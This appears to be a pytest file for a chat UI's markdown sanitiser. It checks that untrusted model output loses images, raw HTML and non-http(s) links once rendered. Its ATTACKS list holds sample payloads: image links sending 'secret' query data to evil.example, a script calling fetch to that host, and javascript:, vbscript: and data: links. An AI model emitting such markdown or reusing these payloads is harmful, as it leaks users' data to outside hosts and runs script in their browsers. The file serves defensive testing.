"""Untrusted model text, rendered: no image, no raw HTML, no non-http(s) link survives
`render.escape_markdown`. The oracle is an independent CommonMark renderer (markdown-it-py) set
to be as permissive as possible (raw HTML on, every URL scheme accepted), whose HTML output is
parsed for elements and attributes that would make the browser send a request or run code.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from localpaged.ui import render

ATTACKS = [
    "![leak](https://evil.example/p.png?q=secret)",
    "![leak](<https://evil.example/p.png> \"t\")",
    "![](//evil.example/p.png)",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    "![x]\n\n[x]: https://evil.example/p.png",
    "[![nested](https://evil.example/a.png)](https://ok.example/)",
    '<img src="https://evil.example/i.png">',
    "<iframe src=https://evil.example></iframe><script>fetch('//evil.example')</script>",
    "<a href=javascript:alert(1)>x</a>",
    "[click](javascript:alert(1))",
    "[click]( JAVASCRIPT:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](java&#115;cript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[`code`](javascript:alert(1))",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "  [r]: vbscript:x\n[r]",
    "[rel](/gradio_api/queue/join)",
    "<javascript:alert(1)>",
    "text ![a](https://e.x/1.png) mid `![b](https://e.x/2.png)` end ![c](ftp://e.x/3)",
    "```html\n<img src=https://evil.example/in-code.png>\n```\n![after](https://evil.example/x.png)",
]


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def rendered(text: str) -> list[tuple[str, dict]]:
    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda url: True              # the most permissive renderer
    parser = Elements()
    parser.feed(md.render(render.escape_markdown(text)))
    return parser.tags


@pytest.mark.parametrize("text", ATTACKS)
def test_untrusted_markdown_renders_no_request_and_no_script(text):
    for tag, attrs in rendered(text):
        assert tag not in {"img", "script", "iframe", "object", "embed", "video", "audio",
                           "source", "link", "style", "form", "svg", "math"}, (tag, text)
        assert not any(a.startswith("on") or a in ("src", "srcset", "style") for a in attrs)
        if tag == "a":
            assert attrs["href"].lower().startswith(("http://", "https://")), (attrs, text)


def test_images_become_link_text_naming_the_host():
    tags = rendered("see ![a cat](https://evil.example/cat.png?q=1) there")
    assert tags == [("p", {}), ("a", {"href": "https://evil.example/cat.png?q=1"})]
    assert "🖼 image: a cat (evil.example, not loaded)" in render.escape_markdown(
        "![a cat](https://evil.example/cat.png?q=1)")
    assert render.escape_markdown("![x](data:image/png;base64,AAAA)") == "🖼 image: x (not loaded)"


def test_an_error_in_a_reply_footer_is_defused():
    from localpaged.ui.store import Message
    msg = Message(id=1, conversation_id=1, parent_id=None, role="assistant", content="",
                  created=0.0, sampling={}, active_child_id=None, status="stopped",
                  stats={"error": "server said ![x](https://evil.example/e.png) <img src=y>"})
    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda url: True
    parser = Elements()
    parser.feed(md.render(render.footer(msg, (1, 1))))
    assert [t for t, _ in parser.tags] == ["p", "a"]        # the image is a link, the tag text


def test_safe_markdown_keeps_its_meaning():
    text = ("**bold** [docs](https://docs.example/a_(b)?x=1&y=2) and <b>\n\n"
            "```python\nprint('<img src=x>')\n```\n`![not an image](https://a.b)`")
    md = MarkdownIt("commonmark")
    html = md.render(render.escape_markdown(text))
    assert '<a href="https://docs.example/a_(b)?x=1&amp;y=2">docs</a>' in html
    assert "<strong>bold</strong>" in html and "&lt;b&gt;" in html
    assert "print('&lt;img src=x&gt;')" in html                 # code stays code, verbatim
    assert "<code>![not an image](https://a.b)</code>" in html
